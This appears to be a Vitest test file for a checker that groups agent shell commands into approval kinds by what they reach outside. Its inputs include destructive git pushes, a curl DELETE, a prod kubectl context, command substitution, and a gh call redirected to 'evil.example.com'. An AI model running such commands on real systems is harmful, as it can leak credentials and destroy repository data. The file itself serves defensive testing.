import { describe, expect, test } from 'vitest';
import { readCall } from '../reading/index.ts';
import { createWorkspace, resolve } from '../workspace/index.ts';
import { kindOf } from './kind.ts';
import { reachesOut } from './rules/reach.ts';

const WORKSPACE = createWorkspace({ roots: ['/repo'], home: '/home/dev', cwd: '/repo', disk: false });

/** The kinds of what a command reaches outside with; `none` where no approval could be told from its neighbours. */
function kinds(command: string): string {
  const call = { tool: 'shell', command, cwd: '/repo' } as const;
  const facts = resolve(call, readCall(call), WORKSPACE);
  const found = facts.effects.flatMap((effect, index) =>
    reachesOut(effect) ? [kindOf(index, facts) ?? 'none'] : [],
  );
  return found.join(', ');
}

describe('values do not count', () => {
  test.each([
    ['git push origin main', 'git push origin feature/cart'],
    ['gh pr create --title "Fix it" --body "It was broken"', 'gh pr create --title Other --body Words'],
    ['gh issue comment 3 --body done', 'gh issue comment 41 --body "not yet"'],
    ['curl -d @a.json https://hooks.example.com/x', 'curl -d @b.json https://hooks.example.com/x'],
    ['kill 4242', 'kill 17'],
  ])('`%s` is of the kind of `%s`', (one, other) => {
    expect(kinds(one)).toMatch(/ => /);
    expect(kinds(one)).not.toContain('none');
    expect(kinds(other)).toBe(kinds(one));
  });
});

describe('risk does', () => {
  test.each([
    ['a flag', 'git push origin main', 'git push -f origin main'],
    ['an unknown flag', 'git push origin main', 'git push --frobnicate origin main'],
    ['a forced refspec', 'git push origin main', 'git push origin +main'],
    ['a deleted branch', 'git push origin main', 'git push origin :main'],
    ['another remote', 'git push origin main', 'git push backup main'],
    ['another host', 'curl -d x https://a.example.com', 'curl -d x https://b.example.com'],
    ['another method', 'curl -X POST https://a.example.com', 'curl -X DELETE https://a.example.com'],
    ['another context', 'kubectl --context stage apply -f x.yaml', 'kubectl --context prod apply -f x.yaml'],
    ['another subcommand', 'gh pr create --title x', 'gh pr merge --title x'],
    ['another program', 'npm install -g x', 'pnpm install -g x'],
  ])('%s: `%s` is not of the kind of `%s`', (_, one, other) => {
    expect(kinds(other)).not.toBe(kinds(one));
  });
});

test.each([
  'ssh box ls',
  'GH_HOST=evil.example.com gh pr create --title x',
  'export GH_HOST=evil.example.com; gh pr create --title x',
  `sh -c 'git push origin main'`,
  'git push origin "$(cat branch)"',
  'git push origin $BRANCH',
  'sudo systemctl restart nginx',
  'xargs git push < names',
])('`%s` has no kind', (command) => {
  expect(kinds(command).split(', ')).toContain('none');
});
